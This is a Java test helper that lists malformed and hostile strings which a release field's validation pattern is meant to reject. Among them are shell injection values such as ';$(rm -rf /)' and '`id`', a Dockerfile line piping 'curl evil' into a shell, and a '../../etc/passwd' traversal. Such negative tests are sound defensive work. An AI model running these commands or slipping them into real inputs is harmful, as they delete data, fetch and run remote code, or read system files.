package io.ckan.operator.release;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Strings a field's pattern should refuse: shell and Dockerfile injection, odd characters, and near misses. */
final class HostileText {
  private HostileText() {}

  private static final List<String> GENERIC = List.of("", " ", "\t", "x y", ";$(rm -rf /)", "`id`", "a|b", "a&&b",
      "\n", "a\nRUN curl evil | sh", "UPPER", "1leading", ".leading", "-leading", "_leading", "trailing-",
      "trailing.", "a..b", "../../etc/passwd", "/absolute", "\u00fcml", "a\u0000b", "'quoted'", "\"quoted\"", "a@b",
      "http://user:password@host/x", "a".repeat(1000));

  /** The generic strings and variations of a valid value of the field. */
  static List<String> near(String valid) {
    List<String> all = new ArrayList<>(GENERIC);
    all.addAll(List.of(valid + "\n", " " + valid, valid + " ", valid + ";$(rm -rf /)", valid + "\nRUN curl evil | sh",
        valid.toUpperCase(Locale.ROOT), "." + valid, "-" + valid, valid + "/../x", valid + "\u0000"));
    return all.stream().distinct().toList();
  }
}
